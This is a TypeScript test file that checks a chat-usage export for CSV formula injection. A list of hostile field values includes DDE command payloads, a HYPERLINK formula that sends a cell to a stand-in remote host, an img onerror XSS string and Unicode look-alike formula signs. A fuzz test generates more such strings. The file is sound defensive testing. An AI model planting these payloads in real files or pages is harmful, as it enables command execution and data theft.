import { existsSync, mkdtempSync, rmSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { DEFAULT_PROFILE_SETTINGS } from "@bedrock-tiers/protocol"
import fc from "fast-check"
import { afterEach, beforeEach, expect, it, type TestContext } from "vitest"
import { attack } from "@bedrock-tiers/test-kit/samples/hostile-markdown"
import * as samples from "@bedrock-tiers/test-kit/samples/view-state"
import { empty, NOW, openFileHost, putFile } from "./testing/file-host"
import { readCsv } from "./testing/read-csv"
import { measured, report, SEED } from "./testing/report"

/** The usage of all chats, as it is written for spreadsheets and programs, with hostile words wherever words are in it. */

let folder: string
beforeEach(() => (folder = mkdtempSync(join(existsSync("/dev/shm") ? "/dev/shm" : tmpdir(), "bedrock-tiers-usage-"))))
afterEach(() => rmSync(folder, { recursive: true, force: true }))

const CHAT_ID = "3b1f2a64-0000-4000-8000-000000000001"
const WORDS = [
	"chat_title",
	"model_id",
	"base_model_id",
	"region",
	"served_tier",
	"billed_tier",
	"price_source",
	"price_checked_on",
] as const
type Words = Readonly<Record<(typeof WORDS)[number], string>>

/** What it is told of the same words in both forms, through the session and the chat's file. */
async function exported(words: Words) {
	empty(folder)
	const request = samples.request({
		modelId: words.model_id,
		baseModelId: words.base_model_id,
		region: words.region,
		servedTier: words.served_tier,
		billedTier: words.billed_tier,
		card: { origin: "catalog", source: words.price_source, checkedOn: words.price_checked_on },
	})
	const chat = {
		version: 2,
		id: CHAT_ID,
		createdAt: NOW.toISOString(),
		title: words.chat_title,
		toolsAllowed: false,
		tier: null,
		summary: null,
		background: [],
		failedBackground: [],
		messages: [{ role: "user", id: "q", text: words.chat_title }, samples.answer({ id: "a", request })],
		removed: [],
	}
	const profile = { id: "default", name: words.chat_title, kind: "aws", settings: DEFAULT_PROFILE_SETTINGS }
	const settings = { settings: { version: 1, activeProfileId: "default", profiles: [profile] } }
	for (const [name, value] of Object.entries({ [`chats/${CHAT_ID}.json`]: chat, "settings.json": settings }))
		putFile(join(folder, name), { how: "", bytes: Buffer.from(JSON.stringify(value)) })
	const host = await openFileHost(folder)
	await host.do({ type: "export-usage", format: "csv" })
	await host.do({ type: "export-usage", format: "json" })
	host.end()
	const [csv = "", json = ""] = host.saved
	return { csv, json }
}

/** Judged apart from how the program judges: whatever is not seen before it, a sign that begins a formula in some spreadsheet. */
const beginsFormula = (cell: string) => /^[\p{C}\p{Z}\s]*[=+\-@|%\u2212]/u.test(cell.normalize("NFKC"))
const isNumber = (cell: string) => /^-?\d+(\.\d+)?(e[+-]?\d+)?$/.test(cell)

function expectHarmless(csv: string, words: Words): void {
	const [names = [], cells = [], ...more] = readCsv(csv)
	expect(more).toEqual([])
	for (const cell of [...names, ...cells]) {
		if (!isNumber(cell)) expect([cell, beginsFormula(cell)]).toEqual([cell, false])
		expect(cell).not.toMatch(/^[\t\r\n]/)
	}
	for (const name of WORDS) {
		const cell = cells[names.indexOf(name)]
		const isGuarded = cell === `'${words[name]}`
		expect([name, isGuarded ? cell.slice(1) : cell]).toEqual([name, words[name]])
		// No word is changed that need not be.
		if (isGuarded)
			expect([words[name], /^[\t\r\n]/.test(words[name]) || beginsFormula(words[name])]).toContain(true)
	}
	// Where a semicolon or a tab parts the cells, none of these falls apart.
	expect(csv.replaceAll(/"(?:[^"]|"")*"/g, "")).not.toMatch(/[;\t]/)
}

function expectExact(json: string, words: Words): void {
	const { rows } = JSON.parse(json) as { rows: Record<string, unknown>[] }
	expect(rows).toHaveLength(1)
	expect(Object.fromEntries(WORDS.map((name) => [name, rows[0]?.[name]]))).toEqual(words)
}

const HOSTILE = [
	'=HYPERLINK("https://remote.example?"&A1,"Click")',
	"=cmd|' /C calc'!A0",
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"|calc",
	"%0A=1",
	"\t=1",
	"\r=1",
	"\n=1",
	"\r\n=1",
	" \u00a0\u3000=1",
	"\ufeff=1",
	"\u200b=1",
	"\u202e=1",
	"\u00ad=1",
	"\u0000=1",
	"\u007f\u0085=1",
	"＝1",
	"﹦1",
	"⁼1",
	"＋1",
	"－1",
	"﹣1",
	"−1",
	"＠SUM(1)",
	"'=1",
	"''=1",
	"a;=1",
	"a\t=1",
	"a\n=1",
	"a\r\n=1,=2",
	'a","=1',
	'"=1"',
	'"',
	'""',
	",",
	"a,=1",
	`<img src=x onerror=${attack}>`,
	"{=1}",
	"[=1]",
	"(=1)",
	"x=1 + y - @z",
	"1",
	"-1",
	"1e5",
	"true",
	"__proto__",
	"ID",
	" ",
	"\u2028=1",
	"👍=1",
]

const everywhere = (text: string) => Object.fromEntries(WORDS.map((name) => [name, text])) as Words

it("words that a spreadsheet would run", async (context) => {
	report(context, {
		area: "files",
		tried: `usage as CSV and JSON with hostile titles, profiles, models, regions, tiers and prices' sources: ${HOSTILE.length} formulas, signs, line ends, quotes and separators`,
		holds: "no cell begins a formula; a strict reader reads the same words, but for an apostrophe before what would; JSON has them to the character",
	})
	for (const text of HOSTILE) {
		const { csv, json } = await exported(everywhere(text))
		expectHarmless(csv, everywhere(text))
		expectExact(json, everywhere(text))
	}
	// Both looks see what they look for.
	expect(() => expectHarmless('chat_title\r\n"=1"\r\n', everywhere("=1"))).toThrow("=1")
	for (const wrong of ['a"b\r\n', '"a"b\r\n', '"a\r\n', "a", "a,b\r\nc\r\n", "a\nb\r\n"])
		expect(() => readCsv(wrong)).toThrow(/\.$/)
})

it("any words at all", async (context: TestContext) => {
	const count = 1_000
	report(context, {
		area: "files",
		tried: `usage as CSV and JSON of ${count.toLocaleString("en-US")} chats with generated words in the same places`,
		holds: "the same",
	})
	const sign = fc.constantFrom(..."=+-@|%;,\"'\t\r\n \u200b\u202e＝−", "\r\n", "a")
	const text = fc
		.tuple(fc.array(sign, { maxLength: 6 }), fc.string({ unit: "binary", maxLength: 20 }))
		.map(([signs, rest]) => signs.join("") + rest)
		.filter((words) => words !== "")
	const words = fc.record(Object.fromEntries(WORDS.map((name) => [name, text]))) as fc.Arbitrary<Words>
	await fc.assert(
		fc.asyncProperty(words, async (one) => {
			const { csv, json } = await exported(one)
			expectHarmless(csv, one)
			expectExact(json, one)
		}),
		{ numRuns: count, seed: SEED, endOnFailure: true },
	)
	measured(context, `usage: the words of ${count.toLocaleString("en-US")} chats, seed ${SEED}`)
})
